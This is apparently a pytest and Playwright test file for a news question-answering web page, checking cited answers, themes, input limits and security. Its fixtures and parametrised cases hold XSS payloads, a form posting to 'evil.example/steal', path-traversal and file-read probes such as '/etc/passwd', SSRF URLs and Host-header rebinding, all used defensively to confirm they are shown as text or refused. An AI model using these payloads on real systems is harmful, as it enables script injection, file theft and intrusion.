"""The real page, asked by a real browser and by bare HTTP, over the seeds and one article that tries all it can."""

import http.client
import json
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from page_server import DESKTOP, PHONE, VisitMaker, chat, chromium
from playwright.sync_api import Browser, ViewportSize

from vectorstore.embed import Encoder
from vectorstore.ingest import ingest

SEEDS = Path(__file__).parent.parent / "seeds"
ANSWERABLE = "How many people were killed in the Brussels bombings?"
UNANSWERABLE = "Who won the chess tournament in Reykjavik?"

SCRIPT = "<script>window.pwned=1</script>"
IMAGE = '<img src="https://evil.example/x.png" onerror="window.pwned=1">'
FORM = '<form action="https://evil.example/steal"><input name="q"></form>'
LINK = '<a href="javascript:window.pwned=1">the dockers</a>'
TEMPLATE = "${window.pwned=1} {{constructor.constructor('window.pwned=1')()}}"
HOSTILE = {
    "id": "harbour",
    "title": f"Harbour strike {SCRIPT}{IMAGE}",
    "url": "javascript:window.pwned=1",
    "publisher": f"Vellum Post {IMAGE}{FORM}",
    "author": f"Mara {SCRIPT}{LINK}",
    "section": f"{FORM}",
    "published": "2024-05-03",
    "text": f"The harbour strike in Port Vellum was ended on Friday by {LINK} and {IMAGE} after nine days of talks.\n\n"
    f"{SCRIPT}{FORM}\n\nThe terminal reopened at dawn {TEMPLATE} with all cranes at work.",
}


@pytest.fixture(scope="module")
def url(tmp_path_factory: pytest.TempPathFactory, encoder: Encoder) -> Iterator[str]:
    """A page that found no store and made one from the seeds; the hostile article came while it was running.

    It ends by Ctrl+C while a page still listens, and in all its life it logs nothing.
    """
    folder = tmp_path_factory.mktemp("browser")
    hostile = folder / "hostile.jsonl"
    hostile.write_text(json.dumps(HOSTILE))
    with chat(folder / "store", folder / "chat.log") as served:
        ingest([hostile], folder / "store", encoder=lambda: encoder)
        yield served
        listening = http.client.HTTPConnection(urlsplit(served).netloc, timeout=10)
        listening.request("GET", "/gradio_api/heartbeat/open")
        listening.getresponse()
    listening.close()
    assert (folder / "chat.log").read_text() == ""


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with chromium() as launched:
        yield launched


@pytest.fixture
def visits(browser: Browser, url: str) -> Iterator[VisitMaker]:
    """Opens pages; in the end, none of them has asked another origin for anything, or run what an article holds."""
    maker = VisitMaker(browser, url)
    yield maker
    for visit in maker.made:
        assert visit.page.evaluate("window.pwned") is None
        assert visit.mischief == []
        visit.page.context.close()


@pytest.mark.browser
@pytest.mark.parametrize(("viewport", "scheme"), [(DESKTOP, "light"), (PHONE, "dark")], ids=["desktop", "phone"])
def test_a_marker_opens_the_article_at_its_quote(visits: VisitMaker, viewport: ViewportSize, scheme: str):
    """Asking gives a cited answer; [1] opens the whole article, its quote marked and in view, by mouse and by key."""
    visit = visits(viewport, scheme)
    visit.ask(ANSWERABLE)
    assert "31" in visit.read(".answer")
    quote = visit.read(".turn .sources li:first-of-type blockquote")

    visit.page.click(".answer .marker >> nth=0")
    visit.page.wait_for_selector("#article mark")
    assert visit.read("#article mark") == quote
    assert visit.read("#article .text") in {path.read_text() for path in SEEDS.glob("*.txt")}
    mark, text = (visit.page.locator(f"#article {part}").bounding_box() for part in ("mark", ".text"))
    assert mark
    assert text
    assert text["y"] <= mark["y"] < text["y"] + text["height"] / 2
    assert visit.page.evaluate("document.documentElement.scrollWidth") <= viewport["width"]

    visit.page.keyboard.press("Escape")
    visit.page.wait_for_selector("#article mark", state="detached")
    visit.page.keyboard.press("Enter")  # the focus is back on the marker
    visit.page.wait_for_selector("#article mark")


@pytest.mark.browser
@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_the_page_follows_the_browsers_light_and_dark(visits: VisitMaker, scheme: str):
    """A dark browser gets light ink on a dark page, a light one the reverse."""
    page = visits(scheme=scheme).page
    page.wait_for_selector("link[href='byline/page.css']", state="attached")
    ink, paper = page.evaluate(
        """() => [getComputedStyle(document.querySelector("#masthead")).color,
                  getComputedStyle(document.body).backgroundColor]
                 .map((colour) => colour.match(/[0-9.]+/g).slice(0, 3).map(Number).reduce((sum, part) => sum + part))"""
    )
    assert (ink > 600, paper > 600) == ((True, False) if scheme == "dark" else (False, True))


@pytest.mark.browser
def test_what_an_article_plants_stays_text(visits: VisitMaker):
    """Scripts, images, forms and links in a title, body, URL, publisher and author are shown, not obeyed."""
    visit = visits()
    visit.ask("Who ended the harbour strike in Port Vellum?")
    visit.page.click(".turn .source >> nth=0")
    visit.page.wait_for_selector("#article mark")
    opened = visit.read("#article")
    for field in ("title", "url", "publisher", "author", "section"):
        assert HOSTILE[field] in opened
    assert visit.read("#article .text") == HOSTILE["text"]
    assert HOSTILE["title"] in visit.read(".sources")
    planted = "#conversation :is(script, img, form, input, a), #article :is(script, img, form, input, a)"
    assert visit.page.locator(planted).count() == 0


@pytest.mark.browser
def test_what_a_question_plants_stays_text(visits: VisitMaker):
    """The same holds for the question, answered and refused."""
    visit = visits()
    for question in (f"Who resigned? {SCRIPT}{IMAGE}{FORM}{LINK}{TEMPLATE}", SCRIPT + IMAGE * 40):
        visit.ask(question)
        assert question[:100] in visit.read(".question")
        assert visit.page.locator("#conversation :is(script, img, form, input, a)").count() == 0


@pytest.mark.browser
def test_a_question_that_cannot_be_asked_says_why(visits: VisitMaker):
    """Empty, too long and absurdly long questions get one clear line, stay to be corrected, and the page goes on."""
    visit = visits()
    visit.ask("  ")
    assert "empty" in visit.read(".error")
    visit.ask("x" * 2001)
    assert "2,001" in visit.read(".error")
    assert visit.page.input_value("#question textarea") == "x" * 2001
    visit.ask("x" * 1_000_000)
    assert "1,000,000" in visit.read(".error")
    visit.ask(ANSWERABLE)
    assert visit.page.locator(".error").count() == 0
    assert "31" in visit.read(".answer")


@pytest.mark.browser
def test_an_unanswerable_question_is_declined(visits: VisitMaker):
    """The page says plainly that the articles do not say, and gives no confidence in an answer."""
    visit = visits()
    visit.ask(UNANSWERABLE)
    assert "articles do not say" in visit.read(".answer.abstained")
    assert visit.page.locator(".facts").count() == 0


@pytest.mark.browser
def test_a_suggested_question_is_answered(visits: VisitMaker):
    """The page offers questions, and the one that is clicked gets an answer with a source."""
    visit = visits()
    offered = visit.page.locator(".suggestion").first
    question = offered.text_content()
    offered.click()
    visit.page.wait_for_selector(".turn[aria-busy=false] .sources")
    assert visit.read(".question") == question
    assert visit.page.locator(".abstained").count() == 0


@pytest.mark.browser
def test_a_follow_up_is_read_with_its_own_conversation_only(visits: VisitMaker):
    """A follow-up shows how it was read; another visitor's page knows nothing of it, nor does a new conversation."""
    first, second = visits(), visits()
    first.ask("Who is Jan Jambon?")
    first.ask("When did he offer to resign?")
    assert "Jambon" in first.read(".read-as")
    assert second.page.locator(".turn").count() == 0
    second.ask("When did he offer to resign?")
    assert second.page.locator(".read-as").count() == 0

    first.page.click("[data-restart]")
    first.page.wait_for_selector(".empty")
    first.ask("When did he offer to resign?")
    assert first.page.locator(".read-as").count() == 0
    assert second.page.locator(".turn").count() == 1


def fetch(url: str, path: str, method: str = "GET", **more: dict[str, str] | str) -> http.client.HTTPResponse:
    """Send ``path`` as it is, without any encoding or tidying."""
    parts = urlsplit(url)
    connection = http.client.HTTPConnection(parts.hostname or "", parts.port, timeout=10)
    connection.request(method, path, **more)
    response = connection.getresponse()
    response.body = response.read()
    connection.close()
    return response


def test_every_response_carries_the_security_headers(url: str):
    """The page, its files and its refusals are locked to this origin; each page has its own nonce."""
    for path in ("/", "/byline/page.css", "/no-such-page"):
        response = fetch(url, path)
        policy = response.headers["Content-Security-Policy"]
        assert "default-src 'none'" in policy
        assert "frame-ancestors 'none'" in policy
        assert "'unsafe-inline'" not in policy.split("style-src")[0]
        assert "http" not in policy
        assert response.headers["X-Frame-Options"] == "DENY"
        assert response.headers["X-Content-Type-Options"] == "nosniff"
        assert response.headers["Referrer-Policy"] == "no-referrer"
    first, second = (fetch(url, "/").headers["Content-Security-Policy"] for _ in range(2))
    assert first != second


TARGET = "https://evil.example/x"


@pytest.mark.parametrize(
    "path",
    [
        f"/gradio_api/file={TARGET}",
        f"/gradio_api/file%3D{TARGET}",
        f"/gradio_api/%66ile={TARGET}",
        f"/gradio_api/%2566ile={TARGET}",
        f"/gradio_api//file={TARGET}",
        f"/gradio%5Fapi/file={TARGET}",
        f"/gradio_api%2Ffile={TARGET}",
        f"//gradio_api/file={TARGET}",
        f"/assets/../gradio_api/file={TARGET}",
        f"/assets/%2e%2e/gradio_api/file={TARGET}",
        "/gradio_api/file=http%3A%2F%2F127.0.0.1%3A22",
        "/gradio_api/file=/etc/passwd",
        "/gradio_api/file/etc/passwd",
        f"/file={TARGET}",
        f"/gradio_api/proxy={TARGET}",
        f"/proxy={TARGET}",
        "/byline/%2e%2e/page.py",
        "/byline/../page.py",
        "/gradio_api/info",
        "/gradio_api/upload",
        "/gradio_api/runs",
        "/monitoring",
    ],
)
def test_nothing_but_the_page_is_served(url: str, path: str):
    """What would fetch a URL, read a file or show Gradio's other pages is refused in every spelling."""
    for method in ("GET", "HEAD", "POST"):
        assert fetch(url, path, method).status in {400, 403, 404, 405}


def test_a_file_smuggled_into_an_event_is_refused(url: str):
    """Gradio would fetch the URL of a file object in any event's data; the guard lets none through."""
    file = {"path": TARGET, "meta": {"_type": "gradio.FileData"}}
    event = json.dumps({"data": [[{"deep": file}], None], "fn_index": 0, "session_hash": "x"})
    response = fetch(url, "/gradio_api/queue/join", "POST", body=event, headers={"Content-Type": "application/json"})
    assert (response.status, response.body) == (400, b"The page takes no files.")


def test_other_sites_cannot_use_the_page(url: str):
    """A name that was rebound to this machine is refused, and so is a request that another site's page sends."""
    assert fetch(url, "/", headers={"Host": "evil.example"}).status == 421
    assert fetch(url, "/", headers={"Host": "127.0.0.1.evil.example"}).status == 421
    headers = {"Origin": "https://evil.example", "Content-Type": "application/json"}
    assert fetch(url, "/gradio_api/queue/join", "POST", body="{}", headers=headers).status == 403
    big = fetch(url, "/gradio_api/queue/join", "POST", body='"' + "x" * 4_000_001 + '"')
    assert big.status == 413
